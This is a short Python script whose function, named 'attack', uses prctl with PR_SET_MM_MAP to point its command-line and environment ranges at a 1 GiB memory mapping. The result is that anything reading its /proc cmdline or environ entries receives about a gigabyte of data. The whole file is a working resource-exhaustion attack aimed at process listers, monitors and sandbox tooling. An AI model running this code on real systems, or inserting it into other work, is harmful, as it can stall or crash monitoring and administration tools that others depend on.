"""Makes its command line and its environment a gigabyte long for whoever reads /proc: all memory that it maps."""

import ctypes
import mmap
import os

PR_SET_MM, PR_SET_MM_MAP = 35, 14
FIELDS = "start_code end_code start_data end_data start_brk brk start_stack arg_start arg_end env_start env_end".split()
GIB = 1 << 30
NO_RESERVE = 0x4000


class Map(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in FIELDS]
    _fields_ += [("auxv", ctypes.c_void_p), ("auxv_size", ctypes.c_uint32), ("exe", ctypes.c_uint32)]


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    region = mmap.mmap(-1, GIB, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NO_RESERVE)
    place = ctypes.addressof(ctypes.c_char.from_buffer(region))
    libc.sbrk.restype = ctypes.c_void_p
    brk = libc.sbrk(0)
    words = open("/proc/self/stat").read().rpartition(")")[2].split()
    number = lambda field: int(words[field - 3])  # as proc(5) counts
    own = Map(
        number(26), number(27), number(45), number(46), number(47), brk, number(28),
        place, place + GIB - 4096, place, place + GIB - 4096, None, 0, 0xFFFFFFFF,
    )
    if libc.prctl(PR_SET_MM, PR_SET_MM_MAP, ctypes.byref(own), ctypes.c_ulong(ctypes.sizeof(own)), 0) != 0:
        print("stopped:", os.strerror(ctypes.get_errno()))
    with open("/proc/self/cmdline", "rb") as file:
        print("a command line of", len(file.read(64 << 20)), "bytes and more")
    world["region"] = region

